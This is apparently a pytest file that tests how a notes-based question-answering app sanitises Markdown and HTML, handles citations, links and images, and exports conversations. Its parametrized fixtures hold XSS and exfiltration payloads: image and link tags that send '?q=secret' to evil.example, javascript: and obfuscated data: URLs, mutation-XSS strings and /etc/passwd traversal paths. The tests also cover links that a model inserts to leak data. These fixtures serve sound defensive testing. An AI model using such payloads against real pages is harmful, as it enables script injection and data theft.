"""The parts of the page that need no browser: safe HTML, marks, notes, answers, links, settings."""

import html
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ingest.config import Settings
from ingest.errors import AskNotesError
from ingest.notes.read import load_note
from ingest.passages.overview import Overview
from ingest.schema import Note, Section
from rag.records import Answer, Correction, Evidence, Excerpt, Piece, Sentence, Source
from ui.backend.protocol import Library
from ui.jobs.worker import failure, start, wait
from ui.pages.settings import with_values
from ui.pages.welcome import examples
from ui.render.export import conversation_markdown, file_name
from ui.render.images import NoteImages
from ui.render.markdown import inline, parser
from ui.render.marks import decorate, end_mark, start_mark
from ui.render.note import Span, marked_html, render_note
from ui.render.safe import clean
from ui.render.source import Cited, linked_note, spans_of
from ui.render.turn import Shown, answer_html, finished_view
from ui.words import Words

ZH = Words("zh")
HARMLESS = {"p", "a", "span", "div", "br", "table", "thead", "tbody", "tr", "td", "math", "mrow", "mi", "mo", "mtext"}


def rendered(markdown: str, **env: object) -> str:
    """A note's Markdown; a model's with `links`, the addresses that the notes hold."""
    return clean(parser().render(markdown, env))


def clickable(markup: str) -> list[str]:
    """The addresses that a click would open."""
    return [address for address in re.findall(r'<a[^>]* href="([^"]*)"', markup) if address != "#"]


def answered(markdown: str, *sources: str) -> str:
    """A model's Markdown that cites these sources."""
    cited = tuple(replace(_source(text, 0), n=n) for n, text in enumerate(sources, start=1))
    spans = tuple(Evidence(source.n, source.text, 0, source.end, 1, 1) for source in cited)
    sentence = Sentence(markdown, "", tuple(source.n for source in cited), True, spans)
    return answer_html([sentence], "", "s", Shown(ZH, cited))


def elements(markup: str) -> list[tuple[str, set[str]]]:
    """Each element and the names of its attributes, as a parser of HTML sees them."""
    found: list[tuple[str, set[str]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, {name for name, _ in attrs}))

    Collect().feed(markup)
    return found


def note(text: str, path: str = "a.md") -> Note:
    return Note(path=path, title="a", text=text, sha256="")


def marked(text: str, start: int, end: int, path: str = "a.md") -> str:
    """The words in marks, tags taken out."""
    markup = marked_html(render_note(note(text, path)), [Span(start, end, "evidence")])
    inside = "".join(re.findall(r"<mark[^>]*>(.*?)</mark>", markup, re.DOTALL))
    return html.unescape(re.sub("<[^>]+>", "", inside))


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/a.png?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/a.png",
        "![x](//evil.example/a.png)",
        '<img src="https://evil.example/a.png" onerror=alert(1)>',
        "<img src=https://evil.example/a.png>",
        "<IMG SRC='https://evil.example/a.png'/>",
        '<div><p><img\nsrc="https://evil.example/a.png"></p></div>',
        '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
        '<div style="background:url(https://evil.example/a.png)">x</div>',
        "<style>@import 'https://evil.example/a.css'</style>",
        '<link rel=stylesheet href="https://evil.example/a.css"><video src="https://evil.example/v"></video>',
        '<svg><image href="https://evil.example/a.png"/></svg>',
        '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>',
        '<form action="https://evil.example/"><button>go</button></form>',
        r"$\href{https://evil.example/}{x}$ $\text{<img src=https://evil.example/a.png>}$",
        "<math><mtext><table><mglyph><style><img src=https://evil.example/a.png>",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    ],
)
def test_nothing_is_loaded(attack: str) -> None:
    shown = elements(rendered(attack))
    assert {tag for tag, _ in shown} <= HARMLESS
    # An address stands in a link and in its title only.
    assert {name for tag, names in shown for name in names} <= {"href", "title", "class", "target", "rel", "display"}


def test_remote_image_becomes_a_link_with_its_host() -> None:
    shown = rendered("![a chart](https://cdn.example/c.png)")
    assert '<a class="an-out" href="https://cdn.example/c.png" target="_blank"' in shown
    assert '>a chart</a> <span class="an-host">cdn.example</span>' in shown


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>1</script>)",
        "<javascript:alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        '<a href=" data:text/html,x">x</a>',
        '<a href="da&#10;ta:text/html,x">x</a>',
        '<a href="da&Tab;ta:text/html,x">x</a>',
        '<a href="&#1;data:text/html,x">x</a>',
        '<a href="//evil.example/x">x</a>',
        "[x](vbscript:x) [y](file:///etc/passwd)",
    ],
)
def test_dangerous_links_are_text(link: str) -> None:
    targets = re.findall(r'href="([^"]*)"', rendered(link))
    assert all(target == "#" or target.startswith(("http", "mailto:")) for target in targets)


@pytest.mark.parametrize(
    "link",
    [
        "[the docs](https://evil.example/x?q=secret)",
        "[evil.example](https://evil.example/x?q=secret)",
        "[good.example/evil.example](https://evil.example/x?q=secret)",
        "<https://evil.example/x?q=secret>",
        "[a][r]\n\n[r]: https://evil.example/x?q=secret",
        "![a](https://evil.example/x?q=secret)",
        "![a][r]\n\n[r]: //evil.example/x?q=secret",
        "<a href='https://evil.example/x?q=secret'>x</a>",
        "<A HREF=https://evil.example/x?q=secret>x</A>",
        "<img src='https://evil.example/x?q=secret'>",
        "[a](mailto:evil.example?body=secret)",
    ],
)
def test_links_that_a_model_makes_are_text_with_their_host(link: str) -> None:
    shown = answered(link, "A note about [the docs](https://evil.example/x) and https://evil.example/y.")
    assert clickable(shown) == [] and "data-note" not in shown
    assert "evil.example" in re.sub("<[^>]+>", "", shown)


def test_a_link_that_the_cited_note_holds_is_one_and_shows_its_host() -> None:
    note_text = "See [docs](https://good.example/a?b=c), <https://good.example/two> and https://good.example/三。"
    for target, here in (("a?b=c", "a?b=c"), ("two", "two"), ("三", "%E4%B8%89")):
        shown = answered(f"[the docs](https://good.example/{target})", note_text)
        assert f'href="https://good.example/{here}"' in shown and '<span class="an-host">good.example</span>' in shown
        assert clickable(answered(f"[x](https://good.example/{target}secret)", note_text)) == []
    assert "an-host" not in answered("<https://good.example/two>", note_text)
    assert "an-host" in answered("[good.example/two](https://good.example/a?b=c)", note_text)


@given(st.text(alphabet=st.sampled_from("<>/\"'=`![]()$ \nasimgcrptylone&#;:"), max_size=60))
def test_no_text_makes_an_element_that_runs_or_loads(text: str) -> None:
    for tag, names in elements(rendered(text) + inline(text)):
        assert tag not in {"script", "style", "iframe", "object", "form", "input", "svg", "img", "link", "meta", "base"}
        assert not any(name.startswith("on") or name in ("src", "style") for name in names)


def test_tokens_in_angle_brackets_stay_visible() -> None:
    assert re.sub("<[^>]+>", "", rendered("以 <s> 开头，以 </s> 结尾，<pad> 补齐<br>下一行")).strip() == (
        "以 &lt;s&gt; 开头，以 &lt;/s&gt; 结尾，&lt;pad&gt; 补齐下一行"
    )


def test_chinese_emphasis_formulas_and_tables() -> None:
    assert "<strong>注意力（Attention）</strong>是" in rendered("**注意力（Attention）**是一种机制")
    assert "<mfrac>" in rendered(r"注意力 $\frac{QK^T}{\sqrt{d}}$") and "<mfrac>" in rendered(r"\(\frac{a}{b}\)")
    assert '<math display="block">' in rendered("$$\n\\begin{aligned}a&=b\\\\c&=d\\end{aligned}\n$$")
    assert "<td>1</td>" in rendered("|a|b|\n|--|--|\n|1|2|")
    assert "$5 和 $6" in rendered("从 $5 和 $6")
    assert 'an-tex">\\left(' in rendered(r"$\left( x$")


def test_marks_cross_blocks_and_formulas() -> None:
    text = f"<p>a{start_mark(0)}b<em>c</em></p><p>d <math><mi>x{end_mark(0)}</mi></math> e</p>"
    shown = decorate(text, lambda _, run: f"[{run}]", lambda i: f"({i})")
    assert shown == "<p>a[b]<em>[c]</em></p><p>[d ][<math><mi>x</mi></math>](0) e</p>"


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("第一句。第二句，**重点**在此。第三句。", "第二句，**重点**在此。"),
        ("- 一\n- **二：** 内容\n- 三", "**二：** 内容"),
        ("| a | b |\n|---|---|\n| 甲 | 乙 |\n| 丙 | 丁 |", "| 甲 | 乙 |"),
        ("### 3.1 `code` 标题\n正文", "### 3.1 `code` 标题"),
        ("> 引用一\n> 引用二\n", "引用二"),
        ("前\n\n```python\nx = 1\ny = 2\n```\n后", "y = 2"),
        (r"当 $a_1 < b$ 时成立。", r"$a_1 < b$"),
        ("1. 甲\n   - 乙一\n   - 乙二\n2. 丙", "- 乙二"),
    ],
)
def test_a_span_is_marked_and_no_more(text: str, wanted: str) -> None:
    start = text.index(wanted)
    plain = re.sub(r"[*#|>`$\s_-]", "", wanted.replace("a_1 < b", "a1<b"))
    assert re.sub(r"\s", "", marked(text, start, start + len(wanted))) == plain


def test_a_span_over_several_blocks_is_marked_in_each() -> None:
    text = "# 标题\n\n第一段。\n\n- 一\n- 二\n\n第三段。\n\n尾"
    assert re.sub(r"\s", "", marked(text, text.index("一段"), text.index("三段"))) == "一段。一二第"


def test_a_span_that_is_only_markup_marks_its_block() -> None:
    text = "前\n\n```python\nx = 1\n```\n后"
    assert "x = 1" in marked(text, text.index("```"), text.index("```") + 9)


def test_every_sentence_of_the_real_notes_can_be_marked(shared_notes: Path) -> None:
    for path in sorted(p.name for p in shared_notes.iterdir()):
        real = load_note(shared_notes, path, Settings(corpus=shared_notes))
        whole = render_note(real)
        lines = [m for m in re.finditer(r"[^\n]{12,}", real.text) if re.search(r"[\u4e00-\u9fff]{4}", m[0])]
        for line in lines[:: max(1, len(lines) // 15)]:
            assert "<mark" in marked_html(whole, [Span(line.start(), line.end(), "evidence")]), line[0]


def test_pictures_come_from_the_notes_folder_alone(tmp_path: Path) -> None:
    (tmp_path / "notes" / "sub").mkdir(parents=True)
    (tmp_path / "notes" / "sub" / "a b.png").write_bytes(b"picture")
    (tmp_path / "out.png").write_bytes(b"secret")
    (tmp_path / "notes" / "link.png").symlink_to(tmp_path / "out.png")
    images = NoteImages(tmp_path / "notes", "sub/n.md")
    assert images("a%20b.png").startswith("data:image/png;base64,")
    assert (
        images("a%00.png")
        == images("../../out.png")
        == images("/../out.png")
        == images("../link.png")
        == images("a.txt")
        == ""
    )
    text = "![x](a%20b.png) ![y](../../out.png)"
    assert (
        render_note(note(text, "sub/n.md"), NoteImages(tmp_path / "notes", "sub/n.md")).blocks[0].html.count("<img")
        == 1
    )


def test_answer_marks_citations_and_what_is_not_supported() -> None:
    sentences = (
        Sentence("**甲（A）**是一。", citations=(1, 2), supported=True),
        Sentence("乙是二。", citations=(), supported=False),
        Sentence("| 丙 | 三 |", lead="\n\n| x | y |\n|---|---|\n", citations=(2,), supported=True),
    )
    shown = answer_html(sentences, "\n\n尾", "s", Shown(ZH))
    assert re.findall(r'data-cite="([^"]*)"', shown) == ["s0.1", "s0.2", "s2.2"]
    assert re.search(r'<span class="an-unsupported"[^>]*>乙是二。</span>', shown)
    assert "<td>三<sup" in shown and shown.rstrip().endswith("<p>尾</p>")


def test_what_was_searched_instead_is_told() -> None:
    slip = Correction("换觉", "幻觉")
    answer = Answer("什么是换觉？", "什么是幻觉？", "", False, (), (), "m", "g", {}, corrections=(slip,))
    (searched,) = (part for name, part in finished_view(answer, ZH).parts if name == "searched")
    assert "按此查找：什么是幻觉？" in searched and "笔记里没有「换觉」，按「幻觉」查找" in searched


def test_a_citation_of_a_formula_stands_with_it() -> None:
    for formula in ("$$\nx^2\n$$", "$$x^2$$", "\\[ x^2 \\]"):
        shown = answer_html(
            (Sentence(formula, lead="- 甲：\n\n  ", citations=(1,)), Sentence("乙", "\n- ")), "", "s", Shown(ZH)
        )
        assert re.search(r'</math><sup class="an-cites">.*?data-cite="s0.1".*?</sup></div>', shown), shown
        assert shown.count("<ul>") == 1 and shown.count("<li>") == 2


def test_text_from_outside_cannot_forge_a_citation() -> None:
    forged = f"x{start_mark(0)}y{end_mark(0)} <a class='an-cite' data-cite='s0.1' href='#'>1</a>"
    assert "data-cite" not in str(elements(answer_html((Sentence("甲"),), forged, "s", Shown(ZH))))
    assert "data-cite" not in rendered(forged) and "an-cite" not in rendered(forged)


def _source(text: str, start: int) -> Source:
    return Source(1, "id", "a.md", ("a", "h"), text, start, start + len(text), 1, 1, "hash")


def test_spans_follow_the_words_when_the_note_has_changed() -> None:
    old, new = "开头。证据在这里。", "多了一行。\n开头。证据在这里。"
    evidence = Evidence(1, "证据在这里。", 3, 9, 1, 1)
    cited = Cited((Sentence("x", citations=(1,), evidence=(evidence,)),), (), (_source(old, 0),))
    for text in (old, new):
        (span,) = spans_of(cited, "s0.1", note(text))
        assert text[span.start : span.end] == "证据在这里。"
    assert spans_of(cited, "s0.1", note("全改了")) == ()
    assert cited.order("s0.1") == ["s0.1"] and spans_of(cited, "n.1", note(old))[0].kind == "passage"


def test_links_lead_to_notes_of_the_index_alone() -> None:
    notes = {path: note("# 标题\n\n## 二\n", path) for path in ("a.md", "d/b.md", "d/c 1.md")}
    sections = {str(i): Section(str(i), p, ("t", "二"), 0, 1, 3, 3) for i, p in enumerate(notes)}
    library = Library("g", "", notes, sections, 0, "m")
    found = {
        target: (opened.path, opened.line) if (opened := linked_note(library, "d/b.md", target)) else None
        for target in ("../a.md", "c%201.md#二", "b", "a#二", "#二", "../../etc/passwd", "/etc/passwd", "nowhere")
    }
    assert found == {
        "../a.md": ("a.md", 1),
        "c%201.md#二": ("d/c 1.md", 3),
        "b": ("d/b.md", 1),
        "a#二": ("a.md", 3),
        "#二": ("d/b.md", 3),
        "../../etc/passwd": None,
        "/etc/passwd": None,
        "nowhere": None,
    }


def test_examples_are_in_the_language_of_the_page_first() -> None:
    found = Overview((), ("什么是注意力机制？", "How does RoPE work?"), ("KV 缓存", "蒸馏", "量化"))
    assert examples(found, ZH) == (
        *found.questions,
        "关于“KV 缓存”，笔记里是怎么说的？",
        "关于“蒸馏”，笔记里是怎么说的？",
    )
    assert examples(found, Words("en"))[0] == "How does RoPE work?"


def test_settings_are_written_in_place() -> None:
    before = '# mine\ncorpus = "x"\nsources = 6 # six\n\n[t]\nsources = 1\n'
    after = with_values(before, {"sources": 8, "model": 'a"b'})
    assert after == '# mine\ncorpus = "x"\nsources = 8\nmodel = "a\\"b"\n\n[t]\nsources = 1\n'
    assert with_values("", {"language": "zh"}) == 'language = "zh"\n'


def test_a_conversation_becomes_a_note_with_links() -> None:
    sentences = (
        Sentence("甲是一。", citations=(1,), evidence=(Evidence(1, "甲是**一**。", 0, 9, 1, 1),)),
        Sentence("| 乙 |", lead="\n\n|a|\n|--|\n", citations=(1, 2)),
        Sentence("见 ![x](https://evil.example/x.png)<img src=y>", lead="\n\n"),
        Sentence("丙是三。", lead="\n\n", supported=False),
    )
    guessed = replace(_source("乙", 9), n=2, path="d/b [1].md", heading_path=("b", "一、乙"))
    answer = Answer("问\n题？", "", "", False, sentences, (_source("甲是一。", 0), guessed), "m", "g", {})
    notes = {"a.md": note("# a\n\n## h ##\n"), guessed.path: note("一、乙\n乙", guessed.path)}
    text = conversation_markdown("标题", [answer], ZH, notes)
    assert text == (
        "# 标题\n\n## 问 题？\n\n甲是一。[^1-1]\n\n|a|\n|--|\n| 乙[^1-1][^1-2] |\n\n"
        "见 !\\[x](https://evil.example/x.png)&lt;img src=y>\n\n丙是三。 （笔记里没有依据）\n\n*由 m 回答*\n\n"
        "[^1-1]: [[a#h]] · 第 1 行 “甲是一。”\n[^1-2]: [b](d/b%20%5B1%5D.md) · 第 1 行\n"
    )
    assert file_name("什么是 a/b: <c>?") == "什么是 a b c.md"
    same = Sentence("甲是一。", citations=(1,), evidence=(Evidence(1, "甲是一。", 0, 4, 1, 1),))
    shown = replace(answer, excerpts=(Excerpt(1, 0, 4, (Piece(0, 4),), ((0, 4),)),), sentences=(same,), asked="m")
    text = conversation_markdown("标题", [shown], ZH, notes)
    assert "**m 的归纳**" in text and text.count("甲是一。") == 2, (
        "in the evidence and in the summing up, not in a footnote"
    )


PICTURES = [
    "![x](https://evil.example/x.png)",
    "\\![x](https://evil.example/x.png)",  # a backslash before ours
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "!%%a%%[x](https://evil.example/x.png)",  # what a quotation leaves out
    "!<b></b>[x](https://evil.example/x.png)",
    "\\<img src=https://evil.example/x.png>",
    "!**[x](https://evil.example/x.png)",
    "![^1-1](https://evil.example/x.png)",
    # what looks as if it stood in a fence
    "<div>\n```\n</div>\n\n```\n![x](https://evil.example/x.png)\n```",
    "a\n    ```\n![x](https://evil.example/x.png)\n    ```",
    "- ```\n![x](https://evil.example/x.png)\n```",
    "```\ra\r```\r![x](https://evil.example/x.png)\n```\n```",
    "<?\n\n~~~\n<img src=https://evil.example/x.png>\n~~~",
    "```\n<img src=https://evil.example/x.png>",  # an answer after this one ends the fence
]


@pytest.mark.parametrize("picture", PICTURES)
def test_no_picture_comes_out_of_an_export(picture: str) -> None:
    """Wherever it stands: title, question, answer, quotation; in one piece, or in two sentences."""
    evidence = (Evidence(1, picture, 0, len(picture), 1, 1),)
    halves = picture.partition("[")
    sentences = (
        Sentence(picture, citations=(1,), evidence=evidence),
        Sentence(halves[0], lead="\n\n", citations=(1,)),
        Sentence("".join(halves[1:])),
    )
    source = replace(_source(picture, 0), heading_path=(picture, picture))
    answer = Answer(picture, "", "", False, sentences, (source,), "m", "g", {})
    cut = Excerpt(1, 0, len(picture), (Piece(0, len(picture)),), ())
    for shown in (answer, replace(answer, excerpts=(cut,), asked="m")):
        text = conversation_markdown(picture, [shown], ZH, {"a.md": note(f"# a\n\n## {picture}\n")})
        tokens = [inner for token in MarkdownIt("commonmark").parse(text) for inner in (token, *(token.children or ()))]
        assert not [token for token in tokens if token.type == "image" or "html" in token.type]


CODE = "```cpp\n#include <vector>\nauto x = f[i](n) + g![0];  // [r](https://other.example)\n[r]: a\n```"


def test_code_in_a_fence_is_exported_as_it_stands() -> None:
    sentences = (
        Sentence("So:", citations=(1,)),
        Sentence(CODE, lead="\n\n"),
        Sentence("<b> [a](https://other.example)", lead="\n\n"),
    )
    source = _source(CODE, 0)
    cut = Excerpt(1, 0, len(CODE), (Piece(0, len(CODE)),), ())
    answer = Answer("q", "", "", False, sentences, (source,), "m", "g", {}, excerpts=(cut,), asked="m")
    text = conversation_markdown("t", [answer], ZH, {})
    quoted = "\n".join(f"> {line}" for line in CODE.split("\n"))
    assert CODE in text and quoted in text and "&lt;b> \\[a](https://other.example)" in text


@pytest.mark.parametrize(
    "before",
    [
        "```",  # of an answer before, where it is ended by the next one that was to open
        "<?\n```\n?>",
        "%%\n```\n%%",
        "a %% b\n\n```\n\n%%",
        "a $$ b $$ c $$",
        "```\nb\n``` c",
    ],
)
def test_what_may_be_no_code_is_not_exported_as_code(before: str) -> None:
    texts = [before, "```\n![x](https://evil.example/x.png)<img src=y>\n```"]
    answers = [Answer("q", "", "", False, (Sentence(text),), (), "m", "g", {}) for text in texts]
    text = conversation_markdown("t", answers, ZH, {})
    assert "![" not in text and "<img" not in text and "evil.example" in text


def test_a_fence_that_becomes_a_picture_is_no_code() -> None:
    drawn = Answer("q", "", "", False, (Sentence('```mermaid\nA["<img src=y>"] --> B\n```'),), (), "m", "g", {})
    assert "&lt;img" in conversation_markdown("t", [drawn], ZH, {})


@pytest.mark.parametrize(
    "link",
    [
        "[a](https://evil.example/?q=secret)",
        "[a][r]\n\n[r]: https://evil.example/?q=secret",
        "[r]\n\n> [r]: //evil.example",
    ],
)
def test_a_models_link_is_text_in_an_export_too(link: str) -> None:
    held = "[docs](https://good.example/a)"
    evidence = (Evidence(1, f"See {held}.", 0, 9, 1, 1),)
    sentences = (Sentence(f"{held} {link}", citations=(1,), evidence=evidence),)
    answer = Answer("q", "", "", False, sentences, (_source(f"See {held}.", 0),), "m", "g", {})
    tokens = MarkdownIt("commonmark").parse(conversation_markdown("t", [answer], ZH, {}))
    links = [str(inner.attrs.get("href", "")) for token in tokens for inner in token.children or ()]
    assert [link for link in links if "example" in link] == ["https://good.example/a"]


def test_why_work_failed_is_told_in_the_language_of_the_page() -> None:
    def refuse() -> None:
        raise AskNotesError("fetch.stopped")

    inner, meant = start(lambda: 1 / 0), start(refuse)
    assert wait(inner, 5) and wait(meant, 5)
    told = [
        error.told(language) for future in (inner, meant) for language in ("zh", "en") if (error := failure(future))
    ]
    assert (
        told[0].startswith("程序内部出错了")
        and told[1].startswith("Something went wrong")
        and told[2].startswith("下载已停止")
        and told[3].startswith("The download was stopped")
    )
